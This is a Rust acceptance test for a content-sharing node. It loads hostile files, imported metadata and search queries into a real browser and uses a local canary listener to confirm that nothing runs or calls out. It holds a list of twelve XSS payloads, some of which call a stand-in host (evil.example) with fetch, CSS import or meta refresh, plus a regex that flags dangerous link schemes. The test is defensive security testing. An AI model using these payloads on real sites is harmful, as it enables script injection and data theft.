//! The shared collection of active content and hostile metadata, in a real browser: nothing runs, nothing is asked of
//! others, no cookie is there. All names and the port that the collection calls out to lead to a listener of the test.

use std::{
    collections::{BTreeSet, VecDeque},
    fs,
    io::Read as _,
    net::TcpListener,
    path::Path,
    sync::{Arc, Mutex},
    thread,
    time::Duration,
};

use anyhow::{Context, Result, ensure};
use commun_testnet::{
    browser::{Browser, Settings},
    federation::Federation,
    http,
    process::Node,
};
use serde_json::{Value, json};

use super::{
    acceptance::{json_file, shared},
    deeds::{encoded, publish},
    hostile::calm,
    turn::turn,
};

/// Pages of the node that are opened beside those of the items: more only repeat them.
const CRAWLED: usize = 120;

/// Where everything goes that a page asks of others.
struct Canary {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Canary {
    fn start() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let noting = heard.clone();
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let noting = noting.clone();
                thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                    let mut bytes = [0; 512];
                    let count = stream.read(&mut bytes).unwrap_or(0);
                    let said = String::from_utf8_lossy(&bytes[..count]).into_owned();
                    if let Ok(mut all) = noting.lock() {
                        all.push(said);
                    }
                });
            }
        });
        Ok(Self { port, heard })
    }

    fn heard(&self) -> Vec<String> {
        std::mem::take(&mut *self.heard.lock().expect("no thread panics with it"))
    }

    /// A browser that finds only the node where it is, and this everywhere else.
    fn browser(&self, language: &str) -> Result<Browser> {
        let port = self.port;
        let away: Vec<String> = [
            "127.0.0.1:9",
            "*.example",
            "*.org",
            "*.test",
            "*.invalid",
            "x",
        ]
        .map(|host| format!("MAP {host} 127.0.0.1:{port}"))
        .into();
        Browser::start(&Settings {
            language: language.to_owned(),
            args: vec![
                format!("--host-resolver-rules={}", away.join(", ")),
                "--explicitly-allowed-ports=9".to_owned(),
            ],
            ..Settings::default()
        })
    }
}

/// Whether a page asked its reader something, which is what scripts of the collection do.
fn asks(told: &Result<()>) -> bool {
    told.as_ref()
        .is_err_and(|e| format!("{e:#}").contains("alert"))
}

/// A browser and what it must not have done.
struct Watch {
    browser: Browser,
    canary: Canary,
    faults: Vec<String>,
}

impl Watch {
    fn start(language: &str) -> Result<Self> {
        let canary = Canary::start()?;
        let browser = canary.browser(language)?;
        let mut it = Self {
            browser,
            canary,
            faults: Vec::new(),
        };
        it.is_awake()?;
        Ok(it)
    }

    /// Makes sure that what is watched for would be seen.
    fn is_awake(&mut self) -> Result<()> {
        for address in ["http://evil.example/", "http://127.0.0.1:9/"] {
            let page = format!("data:text/html,<img src='{address}control'>");
            self.browser.open(&page)?;
            // The browser may break off before it says a word, for a page of no place asks a machine of this network: the
            // connection is what counts.
            let mut seen = Vec::new();
            self.browser.wait("the listener hears of it", |_| {
                seen.extend(self.canary.heard());
                Ok(!seen.is_empty())
            })?;
        }
        let planted = "data:text/html,<script>alert(1)</script>";
        let told = [
            self.browser.open(planted),
            self.browser.run("return 1").map(drop),
        ];
        ensure!(told.iter().any(asks), "an alert is not seen: {told:?}");
        self.browser.open("about:blank")?;
        self.browser.requested()?;
        self.canary.heard();
        Ok(())
    }

    /// Opens a page and notes what it did.
    fn open(&mut self, url: &str) {
        // A download opens no page: the browser stays where it is, and says so with an error.
        let opened = self.browser.open(url);
        if asks(&opened) {
            self.faults.push(format!("{url}: {opened:?}"));
        }
        let state = self
            .browser
            .run("return [document.title, document.documentElement.outerHTML.length]");
        match state {
            Ok(state) => {
                let title = state[0].as_str().unwrap_or_default();
                if title == "pwned" || title == "ran" {
                    self.faults
                        .push(format!("{url}: a script set the title {title:?}"));
                }
            }
            Err(e) => self.faults.push(format!("{url}: {e:#}")),
        }
        if self.browser.cookies().unwrap_or(0) > 0 {
            self.faults.push(format!("{url}: there is a cookie"));
        }
        self.quiet(url);
    }

    fn quiet(&mut self, url: &str) {
        for said in self.canary.heard() {
            let first = said.lines().next().unwrap_or_default().to_owned();
            self.faults.push(format!("{url}: asked others: {first:?}"));
        }
    }

    /// The addresses of this node that the page leads to.
    fn links(&self, origin: &str) -> Vec<String> {
        let script = "return [...document.querySelectorAll('a[href]')].map(a => a.href)";
        let found = self.browser.run(script).unwrap_or_default();
        let found = found.as_array().cloned().unwrap_or_default();
        let found = found.iter().filter_map(Value::as_str);
        found
            .map(|url| url.split('#').next().unwrap_or(url).to_owned())
            .filter(|url| url.starts_with(&format!("{origin}/")))
            .collect()
    }

    /// Links that a reader could follow into a script, and such as tell others where the reader comes from.
    fn no_bad_links(&mut self, url: &str) {
        let script = "return [...document.querySelectorAll('a[href], area[href], form[action]')] \
            .map(a => a.getAttribute('href') || a.getAttribute('action')) \
            .filter(a => /^[\\s\\u0000-\\u001f]*(javascript|data|vbscript|file|blob)\\s*:/i.test(a) || /^[\\\\/]{2}/.test(a))";
        let found = self.browser.run(script).unwrap_or_default();
        if found.as_array().is_some_and(|all| !all.is_empty()) {
            self.faults.push(format!("{url}: links to {found}"));
        }
    }

    fn end(mut self) -> Result<()> {
        // What was begun and not yet sent.
        thread::sleep(Duration::from_secs(2));
        self.quiet("at the end");
        ensure!(
            self.faults.is_empty(),
            "{} faults:\n{}",
            self.faults.len(),
            self.faults.join("\n")
        );
        Ok(())
    }
}

/// Everything that a page of ours shows and a reader may reach from there, a bounded part of it.
fn crawl(watch: &mut Watch, node: &Node, first: Vec<String>) {
    let origin = node.url();
    let mut seen: BTreeSet<String> = BTreeSet::new();
    let mut next: VecDeque<String> = first.into();
    while let Some(url) = next.pop_front() {
        // Downloads are opened for themselves.
        let is_page = !url.contains("/api/") && !url.contains("/archive/") && !url.contains(".git");
        if !is_page || seen.len() >= CRAWLED || !seen.insert(url.clone()) {
            continue;
        }
        watch.open(&url);
        watch.no_bad_links(&url);
        next.extend(watch.links(&origin));
    }
    println!("{} pages", seen.len());
}

fn web_files() -> Result<Vec<(String, Vec<u8>)>> {
    let web = shared()?.join("data/hostile/web");
    let mut files = Vec::new();
    for folder in fs::read_dir(&web)?.flatten() {
        for file in fs::read_dir(folder.path())?.flatten() {
            let (folder, name) = (folder.file_name(), file.file_name());
            let name = format!("{}/{}", folder.to_string_lossy(), name.to_string_lossy());
            files.push((name, fs::read(file.path())?));
        }
    }
    files.sort();
    ensure!(
        files.len() > 30,
        "the collection has {} files only",
        files.len()
    );
    Ok(files)
}

#[test]
#[ignore = "needs COMMUN_SHARED"]
fn acceptance_hostile_files_are_inert_in_a_browser() -> Result<()> {
    let _turn = turn();
    let mut f = Federation::temporary(1)?;
    let node = &f.nodes[0];
    let files = web_files()?;
    let about = json!({"slug": "web", "title": {"en": "Active content"}, "licence": "CC0-1.0"});
    let borrowed: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(n, b)| (n.as_str(), b.as_slice()))
        .collect();
    publish(node, None, &about, &borrowed)?;
    // Each of its own, too: a first file is the one that is shown in the page, and may become its picture.
    let mut items = Vec::new();
    for (at, (name, bytes)) in files.iter().enumerate() {
        let last = name.rsplit('/').next().unwrap_or(name);
        let about =
            json!({"slug": format!("web-{at}"), "title": {"en": name}, "licence": "CC0-1.0"});
        items.push(publish(node, None, &about, &[(last, bytes)])?);
    }
    let content = node.ready.as_ref().context("it is ready")?.content.clone();
    let mut watch = Watch::start("en")?;
    for (name, _) in &files {
        let path = encoded(name);
        watch.open(&format!("{content}/univ-angers/web/files/{path}"));
        watch.open(&format!("{}/univ-angers/web?file={path}", node.url()));
        watch.no_bad_links(name);
        watch.open(&format!(
            "{}/api/v1/items/univ-angers/web/files/{path}",
            node.url()
        ));
    }
    for item in &items {
        watch.open(&format!("{}/{item}", node.url()));
        watch.no_bad_links(item);
    }
    watch.end()?;
    calm(node)?;
    f.stop()
}

/// What tries to be markup, script or an address, in every field that people write.
const VECTORS: [&str; 12] = [
    "<script>document.title='pwned';fetch('http://evil.example/s')</script>",
    "<img src=http://evil.example/i onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
    "'><svg onload=alert(1)><style>@import 'http://evil.example/c'</style>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "[a](javascript:alert(1)) ![b](http://evil.example/b.png) <http://evil.example/d>",
    "]]><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<b>bold</b><iframe srcdoc='<script>alert(1)</script>'></iframe><meta http-equiv=refresh content='0;url=http://evil.example/m'>",
];

/// A document of the collection under an identifier of its own; nothing else is changed.
fn renamed(bytes: &[u8], count: usize) -> Vec<u8> {
    const SHARED: &[u8] = b"\"https://example.org/oer/1\"";
    let own = format!("\"https://example.org/oer/own-{count}\"");
    let found = bytes.windows(SHARED.len()).position(|part| part == SHARED);
    match found {
        Some(at) => [&bytes[..at], own.as_bytes(), &bytes[at + SHARED.len()..]].concat(),
        None => bytes.to_vec(),
    }
}

/// Takes each document of the collection in; gives the names of what came of them.
fn imported(node: &Node, folder: &Path) -> Result<Vec<String>> {
    let auth = format!("Authorization: Bearer {}", node.token()?);
    let mut names = Vec::new();
    let mut count = 0;
    for file in fs::read_dir(folder)?.flatten() {
        count += 1;
        let name = file.file_name();
        let path = format!(
            "/api/v1/imports?format=amb&name={}",
            encoded(&name.to_string_lossy())
        );
        // They all have one identifier: as they are, each would be the next version of the same item.
        let bytes = renamed(&fs::read(file.path())?, count);
        let kind = "Content-Type: application/octet-stream";
        let answer = http::request(node.ports().http, "POST", &path, &[&auth, kind], &bytes)?;
        ensure!(
            answer.status < 500,
            "{name:?}: {}: {}",
            answer.status,
            answer.text()
        );
        if answer.status == 200 {
            let told: Value = serde_json::from_slice(&answer.body)?;
            let items = told["items"].as_array().into_iter().flatten();
            names.extend(items.filter_map(|item| item["name"].as_str().map(str::to_owned)));
        }
    }
    ensure!(count > 30, "the collection has {count} documents only");
    Ok(names)
}

#[test]
#[ignore = "needs COMMUN_SHARED"]
fn acceptance_hostile_metadata_and_queries_are_inert_in_a_browser() -> Result<()> {
    let _turn = turn();
    let mut f = Federation::temporary(1)?;
    let node = &f.nodes[0];
    let names = imported(node, &shared()?.join("data/hostile/json/amb"))?;
    let mut names: BTreeSet<String> = names.into_iter().collect();
    ensure!(names.len() > 10, "{} came in", names.len());
    for (at, vector) in VECTORS.iter().enumerate() {
        let about = json!({"slug": format!("vecteur-{at}"), "title": {"fr": format!("Vecteur {vector}"), "en": vector},
            "summary": {"fr": vector}, "description": {"fr": vector}, "keywords": {"fr": [vector]},
            "creators": [{"name": vector}], "licence": "CC0-1.0", "language": ["fr"]});
        names.insert(publish(
            node,
            None,
            &about,
            &[("README.md", vector.as_bytes())],
        )?);
    }
    f.wait("all can be found", |f| {
        let status = f.nodes[0].client()?.status()?.value;
        Ok(status.index.position == status.catalogue.position)
    })?;
    let node = &f.nodes[0];
    let list = json_file(&shared()?.join("data/hostile/lists/evil-queries.json"))?;
    let queries = list["queries"].as_array().context("queries")?;
    for language in ["fr", "en"] {
        let mut watch = Watch::start(language)?;
        for name in &names {
            watch.open(&format!("{}/{name}", node.url()));
            watch.no_bad_links(name);
        }
        let typed = VECTORS.iter().copied();
        let typed = typed.chain(queries.iter().filter_map(|case| case["q"].as_str()));
        // Longer ones are no addresses that a browser sends.
        for q in typed.filter(|q| q.len() < 2_000) {
            let q = encoded(q).replace('/', "%2F");
            watch.open(&format!("{}/search?q={q}", node.url()));
            watch.no_bad_links(&q);
        }
        let first = [
            node.url() + "/",
            format!("{}/search?q=vecteur", node.url()),
            format!("{}/univ-angers", node.url()),
            format!("{}/status", node.url()),
        ];
        crawl(&mut watch, node, first.into());
        watch.end()?;
    }
    calm(node)?;
    f.stop()
}
